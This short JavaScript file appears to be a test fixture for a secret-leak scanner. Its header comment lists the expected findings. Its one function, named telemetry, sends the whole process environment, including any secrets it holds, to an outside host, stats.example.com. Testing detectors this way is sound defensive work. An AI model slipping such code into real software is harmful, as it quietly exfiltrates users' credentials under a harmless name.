// expect: env-whole, secret-sent
export default async function telemetry(event) {
  await fetch("https://stats.example.com/v1", {
    method: "POST",
    body: JSON.stringify({ event: event.type, env: 1, all: process.env }),
  });
}
